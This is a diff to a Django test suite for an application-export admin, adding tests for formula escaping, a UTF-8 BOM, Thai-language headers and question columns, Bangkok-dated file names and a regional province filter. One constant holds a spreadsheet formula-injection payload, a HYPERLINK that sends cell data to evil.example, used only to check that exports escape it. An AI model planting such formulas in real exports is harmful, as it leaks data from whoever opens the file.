@@ -414,19 +414,24 @@ def test_program_admin_adding_staff_grants_the_role(client, world):
 # Export -----------------------------------------------------------------------------------------
 
 
-def _export_csv(client, params=""):
+def _export(client, params="", file_format=CSV):
     model_admin = django_admin.site._registry[Application]
     assert isinstance(model_admin, ApplicationAdmin)
     formats = model_admin.get_export_formats()
-    csv_index = next(i for i, f in enumerate(formats) if f is CSV)
+    index = next(i for i, f in enumerate(formats) if f is file_format)
     form_fields = {
         f"applicationresource_{name}": "on"
         for name in model_admin.get_export_resource_classes(None)[0]().get_export_order()
     }
     response = client.post(
-        reverse("admin:cohorts_application_export") + params, {"format": str(csv_index), "resource": "0", **form_fields}
+        reverse("admin:cohorts_application_export") + params, {"format": str(index), "resource": "0", **form_fields}
     )
     assert response.status_code == 200, response.content[:500]
+    return response
+
+
+def _export_csv(client, params=""):
+    response = _export(client, params)
     assert response["Content-Type"].startswith("text/csv")
     return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
 
@@ -964,3 +969,106 @@ def test_application_file_from_the_admin_is_scoped(client, world, answered, who,
     if status == 200:
         assert b"".join(response.streaming_content) == b"%PDF-1.4 plan"
         assert "attachment" in response["Content-Disposition"]
+
+
+# Exports: safe, readable in Excel, in the staff member's language ---------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_export_escapes_formulas_and_starts_with_a_bom(client, world):
+    application = world["application"]
+    application.team_name = EVIL
+    application.idea_title = "@SUM(1+1)"
+    application.save(update_fields=["team_name", "idea_title"])
+    client.force_login(world["users"]["program_staff"])
+
+    response = _export(client)
+
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + EVIL in cells
+    assert "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    assert "มูลนิธิรักษ์ป่าต้นน้ำน่าน" in cells  # Thai intact
+
+
+def test_xlsx_export_escapes_formulas(client, world):
+    import openpyxl
+    from import_export.formats.base_formats import XLSX
+
+    application = world["application"]
+    application.team_name = EVIL
+    application.save(update_fields=["team_name"])
+    client.force_login(world["users"]["program_staff"])
+
+    response = _export(client, file_format=XLSX)
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert "'" + EVIL in [cell.value for cell in cells]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert "มูลนิธิรักษ์ป่าต้นน้ำน่าน" in [cell.value for cell in cells]
+
+
+def test_export_has_a_column_per_question_of_the_cohort(client, world):
+    from cohorts.enums import QuestionKind
+    from cohorts.models import Answer
+    from cohorts.tests.factories import QuestionFactory
+
+    yes_no = QuestionFactory(cohort=world["cohort"], kind=QuestionKind.YES_NO, text="เคยรับทุนมาก่อนหรือไม่")
+    choices = QuestionFactory(cohort=world["cohort"], kind=QuestionKind.MULTIPLE_CHOICE, text="พื้นที่ทำงาน")
+    QuestionFactory(cohort=world["other_application"].cohort, text="คำถามของโครงการอื่น")
+    Answer.objects.create(application=world["application"], question=yes_no, value=True)
+    Answer.objects.create(application=world["application"], question=choices, value=["ป่าไม้", "น้ำ"])
+    client.force_login(world["users"]["program_staff"])
+
+    rows = _export_csv(client)
+
+    assert rows[0]["เคยรับทุนมาก่อนหรือไม่"] == "ใช่"
+    assert rows[0]["พื้นที่ทำงาน"] == "ป่าไม้, น้ำ"
+    assert "คำถามของโครงการอื่น" not in rows[0]
+
+
+@pytest.mark.parametrize(("language", "header"), [("th", "ผู้สมัคร"), ("en", "Applicant")])
+def test_export_headers_are_in_the_staff_members_language(client, world, language, header):
+    staff = world["users"]["program_staff"]
+    staff.preferred_language = language
+    staff.save(update_fields=["preferred_language"])
+    client.force_login(staff)
+
+    rows = _export_csv(client)
+
+    assert header in rows[0]
+    assert "team_name" not in rows[0]
+    assert "submitted_at" not in rows[0]
+
+
+def test_export_file_name_has_the_bangkok_date(client, world):
+    import datetime as dt
+
+    import time_machine
+
+    client.force_login(world["users"]["program_staff"])
+    # 30 November 2026, 01:30 in Bangkok: still the 29th in UTC.
+    with time_machine.travel(dt.datetime(2026, 11, 29, 18, 30, tzinfo=dt.UTC), tick=False):
+        response = _export(client)
+
+    assert 'filename="application-2026-11-30.csv"' in response["Content-Disposition"]
+
+
+def test_province_filter_groups_77_provinces_in_six_regions(client, world):
+    import re
+
+    client.force_login(world["users"]["program_staff"])
+
+    response = client.get(CHANGELIST, {"province": "TH-55"})
+
+    body = response.content.decode()
+    assert [a.pk for a in response.context["cl"].result_list] == [world["application"].pk]
+    start = body.index('class="region-filter"')
+    filter_html = body[start : body.find("data-filter-title", start)]
+    assert len(re.findall(r"<summary>", filter_html)) == 6
+    assert len(re.findall(r"\?province=TH-\d\d", filter_html)) == 77
+    assert "<details open>\n        <summary>ภาคเหนือ</summary>" in body  # Nan is in the north: its region is open
